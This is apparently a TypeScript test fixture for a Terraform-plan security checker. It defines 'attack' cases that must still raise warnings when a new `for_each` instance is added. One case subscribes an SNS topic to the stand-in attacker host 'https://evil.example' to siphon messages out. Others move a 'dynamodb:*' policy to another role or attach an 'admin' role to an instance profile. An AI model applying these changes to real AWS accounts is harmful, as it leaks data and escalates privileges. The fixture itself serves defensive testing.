/** Instances of `for_each`: a new instance must not silence a warning about another instance. */
import { allow, type Attack, type Attributes, document, more, OWN, resource } from '../build';

const topic = (key: string) => `arn:aws:sns:eu-central-1:${OWN}:${key}`;
const references = (address: string) => ({ references: [address, 'each.key'] });

/** An attack on an existing instance, beside a new instance of the same resource. */
const attack = (
  hides: string,
  owner: readonly [type: string, after: Attributes],
  [type, before, after]: readonly [type: string, before: Attributes | null, after: Attributes],
  name: string,
  warns: RegExp,
): Attack => {
  const [ownerType, ownerAfter] = owner;
  const expressions = { [name]: references(`${ownerType}.r`) };
  return more(
    hides,
    [
      resource(`${ownerType}.r["new"]`, null, ownerAfter, { after_unknown: { id: true, arn: true } }),
      resource(`${type}.p["a"]`, before, after, {}, { expressions }),
    ],
    { warns },
  );
};

const policy = document(allow({ Action: 'dynamodb:*' }));

export const instances: readonly Attack[] = [
  attack(
    'a policy that moves to another role',
    ['aws_iam_role', { name: 'new' }],
    ['aws_iam_role_policy', { role: 'a', policy }, { role: 'b', policy }],
    'role',
    /dynamodb:\*/,
  ),
  attack(
    'a subscriber outside of AWS',
    ['aws_sns_topic', { name: 'new' }],
    [
      'aws_sns_topic_subscription',
      null,
      { topic_arn: topic('a'), protocol: 'https', endpoint: 'https://evil.example' },
    ],
    'topic_arn',
    /evil\.example/,
  ),
  attack(
    'a key of a usage plan',
    ['aws_api_gateway_usage_plan', { name: 'new' }],
    ['aws_api_gateway_usage_plan_key', null, { usage_plan_id: 'plan1', key_id: 'k' }],
    'usage_plan_id',
    /plan1/,
  ),
  attack(
    'a profile of a role',
    ['aws_iam_role', { name: 'new' }],
    ['aws_iam_instance_profile', null, { name: 'a', role: 'admin' }],
    'role',
    /admin/,
  ),
];
